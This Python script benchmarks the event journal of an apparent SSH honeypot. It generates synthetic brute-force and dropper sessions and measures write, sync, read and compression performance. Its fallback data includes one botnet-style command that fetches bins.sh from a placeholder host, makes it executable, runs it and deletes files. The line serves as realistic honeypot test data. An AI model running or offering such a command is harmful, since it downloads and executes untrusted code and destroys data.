"""What the journal takes: events acknowledged per second, time until durable, size when archived. One JSON line.

    python bench/journal.py [--events 200000] [--directory FOLDER]

The events are shaped like a brute-force and dropper mix; where the real sessions lie beside the checkout, their command
lines are used. Everything counts: building nothing, but encoding, framing, writing and syncing. `raw` is the floor: the
same bytes written by one loop with a fdatasync per 1000 records, without encoding and without a flush thread.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import statistics
import sys
import tempfile
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

from urltrap.journal import BEGINNING, JournalReader, JournalWriter, Position, archive
from urltrap.journal.format import frame
from urltrap.model.event import (
    CommandEntered,
    Connected,
    Disconnected,
    DownloadAsked,
    EventBase,
    LoginTried,
    ProgramRun,
    encode_event,
)
from urltrap.model.ids import new_ulid
from urltrap.model.settings import JournalSettings

SESSIONS = Path(__file__).resolve().parents[2] / "shared" / "data" / "sessions.jsonl"
FALLBACK = [
    b"uname -s -v -n -r -m",
    b"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    b"cd /tmp || cd /var/run; wget http://203.0.113.%d/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
    b"echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'",
]


def command_lines() -> list[bytes]:
    """Command lines of real sessions where they are at hand, invented ones otherwise."""
    if not SESSIONS.is_file():
        return FALLBACK
    found: list[bytes] = []

    def collect(value: object, key: str = "") -> None:
        if isinstance(value, dict):
            for name, item in value.items():
                collect(item, name)
        elif isinstance(value, list):
            for item in value:
                collect(item, key)
        elif isinstance(value, str) and key in ("input", "command", "commands", "cmd", "text"):
            found.append(value.encode("utf-8", "surrogateescape")[:4000])

    with SESSIONS.open(encoding="utf-8", errors="surrogateescape") as lines:
        for line in lines:
            collect(json.loads(line))
    return found or FALLBACK


def make_events(count: int, chance: random.Random) -> list[EventBase]:
    """Sessions of about eight events each."""
    lines = command_lines()
    events: list[EventBase] = []
    at = datetime(2026, 1, 2, tzinfo=UTC)
    while len(events) < count:
        session, seq = new_ulid(int(at.timestamp() * 1000), chance.randbytes(10)), 0
        ip = f"198.51.100.{chance.randrange(256)}"

        def add(kind: type[EventBase], session: str = session, **fields: object) -> None:
            nonlocal at, seq
            at += timedelta(microseconds=chance.randrange(1, 200_000))
            events.append(kind(session=session, seq=seq, at=at, **fields))
            seq += 1

        add(Connected, sensor="ssh", protocol="ssh", src_ip=ip, src_port=chance.randrange(1024, 65536),
            dst_ip="192.0.2.1", dst_port=22, persona="debian-12")  # fmt: skip
        for _ in range(chance.randrange(1, 4)):
            add(LoginTried, method="password", username=b"root", password=chance.randbytes(6).hex().encode(),
                accepted=chance.random() < 0.3)  # fmt: skip
        line = chance.choice(lines)
        add(CommandEntered, mode="exec", text=line)
        for word in line.split()[:2]:
            add(ProgramRun, argv=[word, b"-c", b"x"], path="/usr/bin/env", outcome="ran", status=0)
        if b"http" in line:
            url = f"http://203.0.113.{chance.randrange(256)}/{chance.randbytes(4).hex()}.sh".encode()
            add(DownloadAsked, url=url, client="wget", argv=[b"wget", url], output=b"/tmp/x.sh")
        add(
            Disconnected, reason="client", duration_ms=chance.randrange(60_000), bytes_in=1000, bytes_out=2000
        )
    return events[:count]


def raw(directory: Path, events: list[EventBase]) -> float:
    """Events per second of the floor."""
    records = [frame(encode_event(event)) for event in events]
    fd = os.open(directory / "raw", os.O_WRONLY | os.O_CREAT)
    start = time.perf_counter()
    for first in range(0, len(records), 1000):
        for record in records[first : first + 1000]:
            os.write(fd, record)
        os.fdatasync(fd)
    seconds = time.perf_counter() - start
    os.close(fd)
    return len(events) / seconds


def throughput(directory: Path, events: list[EventBase]) -> tuple[float, int, Position]:
    """Events per second until the last one is acknowledged; bytes of the records; the last position."""
    with JournalWriter(directory, "trap-0", JournalSettings(segment_bytes=16_000_000)) as writer:
        start = time.perf_counter()
        for event in events:
            position = writer.append(event)
        writer.wait_durable(position)
        seconds = time.perf_counter() - start
    size = sum(path.stat().st_size for path in (directory / "trap-0").glob("*.seg"))
    return len(events) / seconds, size, position


def latency(directory: Path, events: list[EventBase], per_second: int) -> tuple[list[float], list[float]]:
    """Milliseconds from append to acknowledgement, and within append, at a steady rate."""
    durable: list[float] = []
    inside: list[float] = []
    done = threading.Semaphore(0)
    with JournalWriter(directory, "latency", JournalSettings()) as writer:
        start = time.perf_counter()
        for number, event in enumerate(events):
            if (early := start + number / per_second - time.perf_counter()) > 0:
                time.sleep(early)
            begun = time.perf_counter()
            position = writer.append(event)
            inside.append((time.perf_counter() - begun) * 1000)

            def acknowledged(error: object, begun: float = begun) -> None:
                durable.append((time.perf_counter() - begun) * 1000)
                done.release()

            writer.add_done_callback(position, acknowledged)
        for _ in events:
            done.acquire()
    return durable, inside


def read_back(directory: Path) -> float:
    """Events per second of a reader that decodes each."""
    count, after = 0, BEGINNING
    start = time.perf_counter()
    with JournalReader(directory) as reader:
        while batch := reader.read("trap-0", after, 2000):
            count, after = count + len(batch), batch[-1][0]
    return count / (time.perf_counter() - start)


def main() -> None:
    """Measure and print."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--per-second", type=int, default=2000, help="steady rate of the latency measurement")
    parser.add_argument("--directory", type=Path, help="where to write (default: a temporary folder)")
    options = parser.parse_args()
    chance = random.Random(7)
    distinct = make_events(min(options.events, 20_000), chance)
    events = [distinct[number % len(distinct)] for number in range(options.events)]
    directory = Path(tempfile.mkdtemp(prefix="urltrap-bench-", dir=options.directory))
    try:
        # First, while the disk has nothing else of ours to write.
        durable, inside = latency(directory, distinct[: options.per_second * 3], options.per_second)
        floor = raw(directory, events)
        rate, size, last = throughput(directory, events)
        read_rate = read_back(directory)
        start = time.perf_counter()
        # Distinct events only: repeated ones would flatter the compression.
        with JournalWriter(directory, "pack", JournalSettings()) as writer:
            for event in distinct:
                end = writer.append(event)
        JournalWriter(directory, "pack", JournalSettings()).close()
        pack = directory / "pack" / f"{end.segment:08d}.seg"
        plain = pack.stat().st_size
        start = time.perf_counter()
        archive(directory, "pack", Position(end.segment + 1, 0))
        pack_seconds = time.perf_counter() - start
        packed = pack.with_name(pack.name + ".zst").stat().st_size
    finally:
        shutil.rmtree(directory)
    quantiles, calls = statistics.quantiles(durable, n=100), statistics.quantiles(inside, n=100)
    result = {
        "bench": "journal",
        "events": len(events),
        "bytes_per_event": round(size / len(events), 1),
        "segments": last.segment,
        "acknowledged_per_second": round(rate),
        "raw_fdatasync_per_1000_per_second": round(floor),
        "read_per_second": round(read_rate),
        "steady_rate": options.per_second,
        "durable_ms": {
            "p50": round(quantiles[49], 2),
            "p99": round(quantiles[98], 2),
            "max": round(max(durable), 2),
        },
        "append_ms": {"p50": round(calls[49], 4), "p99": round(calls[98], 4), "max": round(max(inside), 2)},
        "zstd_ratio": round(plain / packed, 2),
        "archive_mb_per_second": round(plain / 1e6 / pack_seconds, 1),
        "real_command_lines": SESSIONS.is_file(),
        "python": sys.version.split()[0],
        "cpus": os.cpu_count(),
    }
    print(json.dumps(result))


if __name__ == "__main__":
    main()
